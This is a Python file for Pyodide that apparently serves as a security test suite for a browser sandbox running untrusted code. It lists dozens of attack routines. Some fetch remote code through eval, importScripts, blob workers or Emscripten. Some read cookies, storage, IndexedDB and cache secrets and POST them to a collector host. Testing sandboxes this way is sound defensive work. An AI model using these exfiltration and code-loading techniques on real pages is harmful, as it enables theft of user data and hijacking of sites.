"""What a stranger's Python may try in a reader's page: each coroutine is one attack.

This text goes into a block, and runs there; nothing here imports it. An attack gets
`at`, an address of the collector's that bears its mark, and `read`, which takes what it
could read: it is kept for the next run to print, and told to the collector.
"""

import asyncio
import contextlib
import json

import js
from pyodide.ffi import create_proxy, to_js

GIVEN = json.loads("{}")
ATTACKS = {}
ALONE = {}
LAST = {}
FOUND = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def alone(function):
    """An attack that blocks this worker, which the others need to get on."""
    ALONE[function.__name__] = function
    return function


def last(function):
    """An attack in whose failing Python may end: each has a run of its own."""
    LAST[function.__name__] = function
    return function


def plain(**names):
    return to_js(names, dict_converter=js.Object.fromEntries)


def chain():
    """The worker's scope, and all that it inherits from."""
    place = js.self
    while place:
        yield place
        place = js.Object.getPrototypeOf(place)


def recovered(name):
    """Find by its descriptor what may be gone by its name."""
    for place in chain():
        found = js.Object.getOwnPropertyDescriptor(place, name)
        if found:
            if getattr(found, "get", None):
                return js.Reflect.apply(found.get, js.self, to_js([]))
            return found.value
    raise LookupError(name)


def blob(text, kind="text/javascript"):
    parts = to_js([text])
    return js.URL.createObjectURL(js.Blob.new(parts, plain(type=kind)))


# -- to another origin, by what a worker has ----------------------------------


@attack
async def fetch(at, read):
    await js.fetch(at)


@attack
async def fetch_without_cors(at, read):
    await js.fetch(at, plain(mode="no-cors", method="POST", body="x"))


@attack
async def fetch_kept_alive(at, read):
    await js.fetch(at, plain(keepalive=True, method="POST", body="x"))


@attack
async def fetch_of_the_prototype(at, read):
    await js.Reflect.apply(recovered("fetch"), js.self, to_js([at]))


@attack
async def fetch_reflected(at, read):
    await js.Reflect.get(js.globalThis, "fetch")(at)


@attack
async def fetch_of_pyodide_js(at, read):
    import pyodide_js

    await pyodide_js._api.fetch(at)


@attack
async def a_request_object(at, read):
    await js.fetch(js.Request.new(at))


@attack
async def xhr(at, read):
    asked = js.XMLHttpRequest.new()
    asked.open("GET", at)
    asked.send()


@alone
async def xhr_synchronous(at, read):
    asked = js.XMLHttpRequest.new()
    asked.open("POST", at, False)
    asked.send("x")


@alone
async def xhr_of_the_prototype(at, read):
    asked = js.Reflect.construct(recovered("XMLHttpRequest"), to_js([]))
    asked.open("GET", at, False)
    asked.send()


@attack
async def web_socket(at, read):
    js.WebSocket.new(at.replace("http", "ws", 1))


@attack
async def web_socket_of_the_prototype(at, read):
    address = at.replace("http", "ws", 1)
    js.Reflect.construct(recovered("WebSocket"), to_js([address]))


@attack
async def web_socket_stream(at, read):
    js.WebSocketStream.new(at.replace("http", "ws", 1))


@attack
async def event_source(at, read):
    js.EventSource.new(at + "x.events")


@attack
async def beacon(at, read):
    js.navigator.sendBeacon(at, "x")


@attack
async def web_transport(at, read):
    port = GIVEN["ports"]["web_transport"]
    await js.WebTransport.new(f"https://127.0.0.1:{port}/").ready


@attack
async def peer_connection(at, read):
    port = GIVEN["ports"]["peer_connection"]
    servers = [{"urls": f"stun:127.0.0.1:{port}"}]
    there = js.RTCPeerConnection.new(
        to_js({"iceServers": servers}, dict_converter=js.Object.fromEntries)
    )
    there.createDataChannel("x")
    await there.setLocalDescription(await there.createOffer())


@attack
async def font(at, read):
    face = js.FontFace.new("stranger", f"url({at}x.woff2)")
    js.self.fonts.add(face)
    await face.load()


@attack
async def image(at, read):
    js.Image.new().src = at + "x.png"


@attack
async def sound(at, read):
    js.Audio.new(at + "x.mp3").play()


@attack
async def canvas_filter(at, read):
    context = js.OffscreenCanvas.new(9, 9).getContext("2d")
    context.filter = f"url({at}x.svg#a)"
    context.fillRect(0, 0, 9, 9)


@attack
async def notification_icon(at, read):
    js.Notification.new("x", plain(icon=at + "x.png"))


@attack
async def cache_add(at, read):
    await (await js.caches.open("cache_add")).add(at)


@attack
async def open_another_window(at, read):
    js.open(at + "x.html")


@attack
async def navigate(at, read):
    js.location.href = at + "x.html"
    js.location.assign(at + "x.html")


@attack
async def navigate_by_the_navigation_api(at, read):
    js.navigation.navigate(at + "x.html")


@attack
async def a_form_of_the_document(at, read):
    form = js.document.createElement("form")
    form.action = at
    js.document.body.append(form)
    form.submit()


# -- code from elsewhere ------------------------------------------------------


@alone
async def import_scripts(at, read):
    js.importScripts(at + "x.js")


@alone
async def import_scripts_of_the_prototype(at, read):
    js.Reflect.apply(recovered("importScripts"), js.self, to_js([at + "x.js"]))


@attack
async def import_by_eval(at, read):
    await js.eval(f"import('{at}x.js')")


@attack
async def import_by_function(at, read):
    await js.Function.new(f"return import('{at}x.js')")()


@attack
async def import_by_a_constructor(at, read):
    await js.Object.constructor(f"return import('{at}x.js')")()


@attack
async def import_by_a_timer(at, read):
    js.setTimeout(f"import('{at}x.js')", 0)
    js.setInterval(f"import('{at}x.js')", 10_000)


@attack
async def import_by_run_js(at, read):
    from pyodide.code import run_js

    await run_js(f"import('{at}x.js')")


@alone
async def import_by_a_blob_in_import_scripts(at, read):
    js.importScripts(blob(f"import('{at}x.js')"))


@last
async def script_of_emscripten(at, read):
    import ctypes

    text = f"import('{at}x.js').catch(() => 0)"
    ctypes.CDLL(None).emscripten_run_script(text.encode())


# -- Pyodide's and Emscripten's own ways --------------------------------------


@alone
async def pyodide_open_url(at, read):
    from pyodide.http import open_url

    open_url(at)


@attack
async def pyodide_pyfetch(at, read):
    from pyodide.http import pyfetch

    await pyfetch(at)


@alone
async def pyodide_pyxhr(at, read):
    from pyodide.http import pyxhr

    pyxhr.get(at)


@attack
async def pyodide_load_package(at, read):
    import pyodide_js

    await pyodide_js.loadPackage(at + "stranger-1.0-py3-none-any.whl")


@attack
async def pyodide_run_async(at, read):
    import pyodide_js

    await pyodide_js.runPythonAsync(f"import js; js.fetch('{at}')")


@attack
async def python_socket(at, read):
    import socket

    port = int(at.split(":")[2].split("/")[0])
    talk = socket.socket()
    talk.setblocking(False)
    talk.connect_ex(("127.0.0.1", port))


@alone
async def python_urllib(at, read):
    import urllib.request

    urllib.request.urlopen(at, timeout=1)


@last
async def lazy_file(at, read):
    import pyodide_js

    pyodide_js.FS.createLazyFile("/", "lazy", at, True, False)
    with open("/lazy") as file:
        file.read()


@attack
async def preloaded_file(at, read):
    import pyodide_js

    pyodide_js.FS.createPreloadedFile("/", "preloaded", at, True, False)


@attack
async def dynamic_library(at, read):
    import pyodide_js

    await pyodide_js._module.loadDynamicLibrary(at + "x.so", plain(loadAsync=True))


@attack
async def read_async_of_emscripten(at, read):
    import pyodide_js

    await pyodide_js._module.readAsync(at)


# -- workers in the worker ----------------------------------------------------


def quiet(there):
    """Keep what a worker fails at from ending the one that it is in."""
    there.onerror = create_proxy(lambda event: event.preventDefault())
    return there


def worker(address, **options):
    return quiet(js.Worker.new(address, plain(**options)))


def asking(at):
    first = f"fetch('{at}').catch(() => 0)"
    return first + f"; try {{ importScripts('{at}x.js') }} catch {{}}"


@attack
async def classic_blob_worker(at, read):
    worker(blob(asking(at)))


@attack
async def module_blob_worker(at, read):
    worker(blob(f"import '{at}x.js'"), type="module")


@attack
async def data_worker(at, read):
    worker("data:text/javascript," + js.encodeURIComponent(asking(at)))


@attack
async def worker_of_the_prototype(at, read):
    quiet(js.Reflect.construct(recovered("Worker"), to_js([blob(asking(at))])))


@attack
async def shared_worker(at, read):
    js.SharedWorker.new(blob(asking(at)))


@attack
async def worker_of_the_sites_own_scripts(at, read):
    for address in GIVEN["scripts"]:
        there = worker(address, type="module")
        start = {
            "root": at,
            "live": {"runtime": "", "files": [], "python": ["x.js"], "info": {}},
        }
        js.Reflect.apply(
            there.postMessage,
            there,
            to_js([{"start": start}], dict_converter=js.Object.fromEntries),
        )


@attack
async def service_worker(at, read):
    await js.navigator.serviceWorker.register(GIVEN["site"] + "service_worker.js")


@attack
async def service_worker_of_the_prototype(at, read):
    for place in (js.navigator, js.Object.getPrototypeOf(js.navigator)):
        found = js.Object.getOwnPropertyDescriptor(place, "serviceWorker")
        if found:
            there = js.Reflect.apply(found.get, js.navigator, to_js([]))
            await there.register(GIVEN["site"] + "service_worker_of_the_prototype.js")


# -- what the page stores: read -----------------------------------------------


async def everything_in(caches, read):
    for name in await caches.keys():
        cache = await caches.open(name)
        for request in await cache.keys():
            if "secret" in request.url:
                read(await (await cache.match(request)).text())


@attack
async def read_caches(at, read):
    await everything_in(js.caches, read)


@attack
async def read_caches_of_the_prototype(at, read):
    await everything_in(recovered("caches"), read)


@attack
async def read_local_storage(at, read):
    read(js.JSON.stringify(js.localStorage))


@attack
async def read_session_storage(at, read):
    read(js.JSON.stringify(js.sessionStorage))


@attack
async def read_cookies(at, read):
    read(js.document.cookie)


@attack
async def read_cookie_store(at, read):
    read(js.JSON.stringify(await js.cookieStore.getAll()))


def opened(databases, name):
    """Open a database of IndexedDB; make a store `x` where it is new."""
    done = asyncio.get_event_loop().create_future()
    asked = databases.open(name)
    asked.onupgradeneeded = create_proxy(
        lambda _: asked.result.createObjectStore("x") and None
    )
    asked.onsuccess = create_proxy(lambda _: done.set_result(asked.result))
    asked.onerror = create_proxy(lambda _: done.set_exception(OSError(name)))
    return done


async def databases_in(databases, read):
    for each in await databases.databases():
        read(each.name)
        there = await opened(databases, each.name)
        for store in there.objectStoreNames:
            found = there.transaction(store).objectStore(store).getAll()
            found.onsuccess = create_proxy(
                lambda event: read(js.JSON.stringify(event.target.result))
            )
    await asyncio.sleep(0.3)


@attack
async def read_databases(at, read):
    await databases_in(js.indexedDB, read)


@attack
async def read_databases_of_the_prototype(at, read):
    await databases_in(recovered("indexedDB"), read)


@attack
async def read_private_files(at, read):
    folder = await js.navigator.storage.getDirectory()
    there = await folder.getFileHandle("secret")
    read(await (await there.getFile()).text())


@attack
async def read_private_files_by_a_handle(at, read):
    folder = await js.navigator.storage.getDirectory()
    there = await (await folder.getFileHandle("secret")).createSyncAccessHandle()
    held = js.Uint8Array.new(there.getSize())
    there.read(held)
    there.close()
    read(held.to_bytes().decode())


@attack
async def read_storage_buckets(at, read):
    there = await js.navigator.storageBuckets.open("secret")
    await everything_in(there.caches, read)


@attack
async def read_the_sites_file(at, read):
    read(await (await js.fetch(GIVEN["site"] + "secret.txt")).text())


@alone
async def read_the_sites_file_by_xhr(at, read):
    asked = js.XMLHttpRequest.new()
    asked.open("GET", GIVEN["site"] + "secret.txt", False)
    asked.send()
    read(asked.responseText)


@attack
async def read_the_neighbours_file(at, read):
    read(await (await js.fetch(GIVEN["neighbour"] + "secret.txt")).text())


@attack
async def read_the_pages_address(at, read):
    places = [js.location.href]
    for name in ("document", "parent", "top", "opener"):
        places.append(str(getattr(getattr(js, name, None), "URL", "")))
    read(" ".join(places))


@attack
async def read_the_pages_resources(at, read):
    read(js.JSON.stringify(js.performance.getEntries()))


@attack
async def listen_on_a_channel(at, read):
    there = js.BroadcastChannel.new("page")
    FOUND["kept"] = there
    there.onmessage = create_proxy(lambda event: read(str(event.data)))


# -- what the page stores: changed --------------------------------------------


@attack
async def write_cache(at, read):
    there = await js.caches.open("write_cache")
    await there.put(GIVEN["site"] + "write_cache", js.Response.new("x"))


@attack
async def overwrite_caches(at, read):
    for name in await js.caches.keys():
        there = await js.caches.open(name)
        await there.put(GIVEN["site"] + "overwrite_caches", js.Response.new("x"))


@attack
async def overwrite_caches_of_the_prototype(at, read):
    caches = recovered("caches")
    there = await caches.open("overwrite_caches_of_the_prototype")
    address = GIVEN["site"] + "overwrite_caches_of_the_prototype"
    await there.put(address, js.Response.new("x"))


@attack
async def write_database(at, read):
    await opened(js.indexedDB, "write_database")


@attack
async def write_database_of_emscripten(at, read):
    import pyodide_js

    pyodide_js.FS.mkdir("/write_database_of_emscripten")
    kind = pyodide_js.FS.filesystems.IDBFS
    pyodide_js.FS.mount(kind, plain(), "/write_database_of_emscripten")
    with open("/write_database_of_emscripten/x", "w") as file:
        file.write("x")
    pyodide_js.FS.syncfs(False, create_proxy(lambda *_: None))


@attack
async def write_private_file(at, read):
    folder = await js.navigator.storage.getDirectory()
    await folder.getFileHandle("write_private_file", plain(create=True))


@attack
async def write_private_file_of_pyodide(at, read):
    import pyodide_js

    folder = await js.navigator.storage.getDirectory()
    there = await folder.getDirectoryHandle(
        "write_private_file_of_pyodide", plain(create=True)
    )
    mounted = await pyodide_js.mountNativeFS("/native", there)
    with open("/native/x", "w") as file:
        file.write("x")
    await mounted.syncfs()


@attack
async def write_storage_bucket(at, read):
    await js.navigator.storageBuckets.open("write_storage_bucket")


@alone
async def write_temporary_file(at, read):
    there = js.webkitRequestFileSystemSync(0, 1000)
    there.root.getFile("write_temporary_file", plain(create=True))


@attack
async def write_local_storage(at, read):
    js.localStorage.setItem("write_local_storage", "x")
    js.sessionStorage.setItem("write_local_storage", "x")


@attack
async def write_cookie(at, read):
    js.document.cookie = "write_cookie=x; path=/"


@attack
async def write_cookie_store(at, read):
    await js.cookieStore.set("write_cookie_store", "x")


@attack
async def speak_on_a_channel(at, read):
    js.BroadcastChannel.new("page").postMessage("speak_on_a_channel")


@attack
async def hold_a_lock(at, read):
    never = js.Promise.new(create_proxy(lambda *_: None))
    js.navigator.locks.request("hold_a_lock", create_proxy(lambda _: never))


@attack
async def free_javascript(at, read):
    there = worker(blob(GIVEN["javascript"]))
    FOUND["worker"] = there
    FOUND["free"] = {}

    def hear(event):
        name, words = event.data.to_py()
        FOUND["free"].setdefault(name, []).append(words)

    there.onmessage = create_proxy(hear)


async def carried_out(name, function):
    at = f"{GIVEN['collector']}/{name}~"
    note = FOUND[name] = {"read": [], "end": "begun"}

    def read(text):
        if str(text)[:9000] in note["read"]:
            return
        note["read"].append(str(text)[:9000])
        with contextlib.suppress(BaseException):
            js.fetch(at, plain(method="POST", body="read: " + str(text)))

    try:
        await asyncio.wait_for(function(at, read), 3)
        note["end"] = "done"
    except BaseException as error:
        note["end"] = f"{type(error).__name__}: {error}".split("\n")[0][:200]


def report():
    found = {name: FOUND[name] for name in {**ALONE, **ATTACKS} if name in FOUND}
    print(json.dumps({"python": found, "javascript": FOUND.get("free", {})}))


async def all_of_them():
    for name, function in ALONE.items():
        await carried_out(name, function)
    await asyncio.gather(*(carried_out(*each) for each in ATTACKS.items()))


def begin():
    FOUND["task"] = asyncio.ensure_future(all_of_them())


async def one_of_the_last(name):
    await carried_out(name, LAST[name])
    print(json.dumps(FOUND[name]))
